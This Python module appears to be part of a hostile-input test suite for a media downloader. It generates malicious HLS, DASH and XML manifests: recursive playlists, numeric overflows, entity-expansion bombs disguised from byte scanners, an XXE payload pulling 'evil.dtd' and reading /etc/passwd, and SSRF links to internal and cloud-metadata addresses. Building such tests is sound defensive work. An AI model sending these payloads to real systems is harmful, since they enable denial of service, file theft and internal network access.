"""Manifests that lead to one another, go to the edges of numbers, or hide what they stand for in other writings."""

import random
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from itertools import count

from bench.hostile.case import DASH, HLS, MIB, SMOOTH, Answer, Case, always, body, by_path

FILM = b"\x00\x00\x00\x20ftypisom" + bytes(5000)
ELSEWHERE = ("http://012.0.0.1/a", "http://10.1/a", "http://169.254.169.254/a")
PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-VERSION:7\n"


def cases(chance: random.Random) -> list[Case]:
    """Those of a seed."""
    return [*_nested(chance), *_playlists(chance), *_disguised(chance), *_entities()]


def _nested(chance: random.Random) -> list[Case]:
    """Manifests that are one another's variants, segments and keys."""
    numbers = count(chance.randrange(1000))

    def master(*links: str) -> Answer:
        lines = "".join(f"#EXT-X-STREAM-INF:BANDWIDTH={9 - n}\n{link}\n" for n, link in enumerate(links))
        return body(lambda: f"#EXTM3U\n{lines}".encode(), HLS)

    def deeper(request: BaseHTTPRequestHandler, _: str) -> None:
        link = f"{next(numbers)}.m3u8"
        more = f'#EXT-X-STREAM-INF:BANDWIDTH=1\n{link}\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{link}"\n'
        body(lambda: f"#EXTM3U\n{more}".encode(), HLS)(request, "")

    def segments(*links: str) -> Answer:
        lines = "".join(f"#EXTINF:1,\n{link}\n" for link in links)
        return body(lambda: f"{PLAYLIST}{lines}#EXT-X-ENDLIST\n".encode(), HLS)

    keyed = f'{PLAYLIST}#EXT-X-KEY:METHOD=AES-128,URI="a.m3u8"\n#EXTINF:1,\na.m3u8\n#EXT-X-ENDLIST\n'.encode()
    linked = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" type="static" '
    remote = linked + 'mediaPresentationDuration="PT5S"><Period xlink:href="a.mpd" xlink:actuate="onLoad"/></MPD>'
    made: dict[str, tuple[str, Answer]] = {
        "two masters, each other's variant": (
            ("a.m3u8", by_path({"a.m3u8": master("b.m3u8"), "b.m3u8": master("a.m3u8")}))
        ),
        "a master without a bottom": ("a.m3u8", deeper),
        "playlists as segments of each other": (
            "a.m3u8", by_path({"a.m3u8": segments("b.m3u8"), "b.m3u8": segments("a.m3u8")})
        ),
        "a playlist that is its own key and segment": ("a.m3u8", body(always(keyed), HLS)),
        "ninety thousand segments that are the playlist": ("a.m3u8", segments(*["a.m3u8"] * 90_000)),
        "a period that is its own manifest": ("a.mpd", body(always(remote.encode()), DASH)),
        "a page that is its own video": ("", body(always(b'<html><video src="./"></video><iframe src="./">'))),
    }  # fmt: skip
    return [Case("nested manifests", name, answer, entry=entry) for name, (entry, answer) in made.items()]


def _playlists(chance: random.Random) -> list[Case]:
    """Attributes of HLS at the edges of what numbers may be."""
    far = 10 ** chance.randrange(17, 25)
    lines = {
        "byte ranges beyond 64 bit": f"#EXTINF:1,\n#EXT-X-BYTERANGE:{far}@{far}\nseg.ts\n",
        "byte ranges below zero": "#EXTINF:1,\n#EXT-X-BYTERANGE:-5@-9\nseg.ts\n",
        "byte ranges of ten thousand digits": f"#EXTINF:1,\n#EXT-X-BYTERANGE:{'9' * 10_000}\nseg.ts\n",
        "a map beyond 64 bit": f'#EXT-X-MAP:URI="seg.ts",BYTERANGE="{far}@{far}"\n#EXTINF:1,\nseg.ts\n',
        "a sequence below zero, encrypted": (
            '#EXT-X-MEDIA-SEQUENCE:-7\n#EXT-X-KEY:METHOD=AES-128,URI="k"\n#EXTINF:1,\nseg.ts\n'
        ),
        "a sequence beyond 64 bit, encrypted": (
            f'#EXT-X-MEDIA-SEQUENCE:{far}\n#EXT-X-KEY:METHOD=AES-128,URI="k"\n#EXTINF:1,\nseg.ts\n'
        ),
        "an IV that is none": '#EXT-X-KEY:METHOD=AES-128,URI="k",IV=0xzz\n#EXTINF:1,\nseg.ts\n',
        "an IV of a mebibyte": f'#EXT-X-KEY:METHOD=AES-128,URI="k",IV=0x{"0" * MIB}\n#EXTINF:1,\nseg.ts\n',
        "lengths without an end": "#EXTINF:1e308,\nseg.ts\n" * 9 + "#EXTINF:nan,\nseg.ts\n#EXTINF:-inf,\nseg.ts\n",
        "segments elsewhere": "".join(f"#EXTINF:1,\n{one}\n" for one in ("file:///etc/passwd", *ELSEWHERE)),
        "a key elsewhere": '#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"\n#EXTINF:1,\nseg.ts\n',
        "keys of other kinds": '#EXT-X-KEY:METHOD=SAMPLE-AES-CTR,URI="skd://a",KEYFORMAT="b"\n#EXTINF:1,\nseg.ts\n',
        "lines that end in nothing": (
            "#EXTINF:1,\r\r\r\n\x00\x00\nseg.ts\u2028seg.ts\x0bseg.ts\n#EXT-X-KEY:\n#EXT-X-MAP:\n"
        ),
    }  # fmt: skip
    found = []
    for name, text in lines.items():
        whole = f"{PLAYLIST}{text}#EXT-X-ENDLIST\n".encode()
        at = by_path({"a.m3u8": body(always(whole), HLS), "k": body(lambda: bytes(16)), "seg.ts": body(lambda: FILM)})
        # A film of one segment may be read in spite of what the playlist says of it.
        found.append(Case("odd playlists", name, at, entry="a.m3u8", may_arrive=True))
    return found


def _disguised(chance: random.Random) -> list[Case]:
    """Bombs in writings that a search for their bytes does not find: entities, other encodings, very long names."""
    many = chance.randrange(5_000_000, 900_000_000)
    digits = "".join(f"&#{ord(digit)};" for digit in str(many))

    def mpd(inner: str, representation: str = "v") -> str:
        start = (
            '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5000000S"><Period>'
        )
        one = f'<AdaptationSet mimeType="video/mp4"><Representation id="{representation}" bandwidth="1" '
        return f'{start}{one}codecs="avc1.64000a">{inner}</Representation></AdaptationSet></Period></MPD>'

    def template(media: str, extra: str = "", inner: str = "") -> str:
        start = f'<SegmentTemplate timescale="1" media="{media}" initialization="i" {extra}>'
        return f"{start}{inner}</SegmentTemplate>"

    line = '<SegmentTimeline><S t="0" d="1" r="{}"/></SegmentTimeline>'.format
    urls = "<SegmentList>" + '<SegmentURL mediaRange="0-18446744073709551615"/>' * 90_000 + "</SegmentList>"
    expanding = mpd(template("$RepresentationID$" * 50_000, 'duration="1"'), "x" * 50_000)
    made: dict[str, Callable[[], bytes]] = {
        "repeats as entities": lambda: mpd(template("a", "", line(digits))).encode(),
        "width as entities": lambda: mpd(template(f"&#36;Number%0{digits}d&#36;", 'duration="1"')).encode(),
        "repeats in UTF-16": lambda: (
            '<?xml version="1.0" encoding="utf-16"?>' + mpd(template("a", "", line(many)))
        ).encode("utf-16"),
        "repeats in an entity of its own": lambda: (
            f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY n "{many}">]>' + mpd(template("a", "", line("&n;")))
        ).encode(),
        "repeats behind a name space": lambda: mpd(template("a", "", line(many)))
        .replace("<S ", "<x:S ").replace("<MPD ", '<MPD xmlns:x="urn:mpeg:dash:schema:mpd:2011" ').encode(),
        "names that repeat a long one": lambda: expanding.encode(),
        "long names, many times": lambda: mpd(template("x" * MIB + "$Number$", 'duration="30"')).encode(),
        "ranges beyond all files": lambda: mpd(urls).encode(),
        "base links within base links": lambda: mpd("<BaseURL>" * 9000 + "a" + "</BaseURL>" * 9000).encode(),
        "behind three kilobytes of comment": lambda: (
            f"<?xml version='1.0'?><!--{'x' * 3000}-->" + mpd(template("a", "", line(many)))
        ).encode(),
    }  # fmt: skip
    return [Case("disguised manifests", name, body(make, DASH), entry="a.mpd") for name, make in made.items()]


def _entities() -> list[Case]:
    """Entities that expand, in every kind of XML that is read."""
    laughs = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    square = f'<!ENTITY a9 "{"x" * 60_000}">'
    outside = '<!ENTITY % p SYSTEM "http://10.0.0.1/evil.dtd">%p;<!ENTITY a9 SYSTEM "file:///etc/passwd">'
    roots = {
        "Smooth Streaming": ('<SmoothStreamingMedia Duration="{}"/>', SMOOTH),
        "RSS": ('<rss version="2.0"><channel><title>{}</title></channel></rss>', "application/rss+xml"),
        "SMIL": ("<smil><body>{}</body></smil>", "application/smil+xml"),
        "XSPF": ('<playlist xmlns="http://xspf.org/ns/0/"><title>{}</title></playlist>', "application/xspf+xml"),
        "F4M": ('<manifest xmlns="http://ns.adobe.com/f4m/1.0"><id>{}</id></manifest>', "application/f4m+xml"),
    }
    bombs = {"laughs": (laughs, "&a9;"), "a square": (square, "&a9;" * 60_000), "outside": (outside, "&a9;")}
    return [
        Case(
            "entities",
            f"{name}, {bomb}",
            body(always(f'<?xml version="1.0"?><!DOCTYPE a [{declared}]>{root.format(used)}'.encode()), kind),
        )
        for name, (root, kind) in roots.items()
        for bomb, (declared, used) in bombs.items()
    ]
